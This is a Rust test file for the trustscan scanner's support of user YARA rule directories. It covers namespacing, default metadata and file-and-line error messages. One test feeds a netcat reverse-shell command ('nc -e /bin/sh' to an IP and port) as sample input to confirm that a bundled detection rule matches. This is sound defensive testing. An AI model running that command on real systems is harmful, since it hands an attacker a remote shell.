//! Users' rules (`--yara-rules DIR`): compiled next to the bundled pack, one namespace per
//! file; errors name the file and the line.

use trustscan_core::Level;
use trustscan_signatures::Signatures;

#[test]
fn a_valid_user_rule_matches_next_to_the_bundled_pack() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join("team")).unwrap();
    std::fs::write(
        dir.path().join("team/internal.yara"),
        r#"rule internal_endpoint {
  meta:
    description = "Our internal artifact host"
    severity = "low"
    category = "policy"
  strings:
    $a = "artifacts.corp.example"
  condition:
    $a
}
// The same name as a bundled rule is fine: each file has its own namespace.
rule TS_RevShell_NetcatExec { strings: $a = "zzz-user-marker" condition: $a }
"#,
    )
    .unwrap();
    std::fs::write(
        dir.path().join("plain.yar"),
        "rule no_meta { strings: $a = \"load_backdoor(\" condition: $a }\n",
    )
    .unwrap();
    std::fs::write(dir.path().join("README.md"), "not a rule file {").unwrap();

    let bundled = Signatures::bundled().unwrap();
    let s = Signatures::with_user_rules(dir.path()).unwrap();
    assert_eq!(s.len(), bundled.len() + 3);

    let m = s.scan(b"url = 'https://artifacts.corp.example/x'; load_backdoor(1); zzz-user-marker");
    let names: Vec<(&str, &str)> = m
        .iter()
        .map(|m| (m.namespace.as_str(), m.rule.as_str()))
        .collect();
    assert_eq!(
        names,
        [
            ("user:team/internal.yara", "internal_endpoint"),
            ("user:plain.yar", "no_meta"),
            ("user:team/internal.yara", "TS_RevShell_NetcatExec"),
        ]
    );
    assert_eq!(m[0].severity, Level::Low);
    assert_eq!(m[0].category, "policy");
    assert_eq!(m[0].description, "Our internal artifact host");
    // Defaults for rules without the metadata convention.
    assert_eq!(m[1].severity, Level::Medium);
    assert_eq!(m[1].category, "user");
    assert_eq!(m[1].description, "no_meta");
    // The bundled rules still run.
    let m = s.scan(b"nc -e /bin/sh 198.51.100.23 9001");
    assert_eq!(m.len(), 1);
    assert_eq!(m[0].namespace, "trustscan");
}

#[test]
fn a_syntax_error_names_the_file_and_line() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("good.yar"),
        "rule fine { strings: $a = \"x1y2z3\" condition: $a }\n",
    )
    .unwrap();
    let bad = dir.path().join("broken.yar");
    std::fs::write(
        &bad,
        "rule broken {\n  strings:\n    $a = \"abc\"\n  condition:\n    $a and and\n}\n",
    )
    .unwrap();
    let err = match Signatures::with_user_rules(dir.path()) {
        Err(e) => e,
        Ok(_) => panic!("a broken rule file compiled"),
    };
    assert!(err.contains("broken.yar"), "{err}");
    assert!(err.contains("broken.yar:5:"), "no line number: {err}");
    assert!(!err.contains('\n'), "not one line: {err}");
}

#[test]
fn unknown_identifiers_and_unreadable_directories_are_errors() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("pe.yar"),
        "import \"pe\"\nrule needs_pe { condition: pe.is_dll() }\n",
    )
    .unwrap();
    let err = Signatures::with_user_rules(dir.path())
        .err()
        .expect("pe is not compiled in");
    assert!(err.contains("pe.yar:1:"), "{err}");

    let missing = dir.path().join("does-not-exist");
    let err = Signatures::with_user_rules(&missing)
        .err()
        .expect("missing directory");
    assert!(err.contains("does-not-exist"), "{err}");
}

#[test]
fn an_empty_directory_gives_the_bundled_pack() {
    let dir = tempfile::tempdir().unwrap();
    let s = Signatures::with_user_rules(dir.path()).unwrap();
    assert_eq!(s.len(), Signatures::bundled().unwrap().len());
}
